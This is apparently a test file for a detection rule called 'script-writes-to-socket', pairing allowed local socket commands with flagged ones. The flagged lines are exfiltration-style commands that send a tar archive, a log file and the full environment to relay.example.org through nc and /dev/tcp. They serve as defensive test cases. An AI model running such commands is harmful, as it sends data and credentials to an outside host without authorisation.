# ok: script-writes-to-socket
nc -z db 5432
# ok: script-writes-to-socket
echo stats | nc localhost 11211
# ok: script-writes-to-socket
echo > /dev/tcp/db/5432
# ok: script-writes-to-socket
cat run.log | sort
# ruleid: script-writes-to-socket
tar cz data | nc relay.example.org 9000
# ruleid: script-writes-to-socket
nc relay.example.org 9000 < run.log
# ruleid: script-writes-to-socket
env > /dev/tcp/relay.example.org/9000
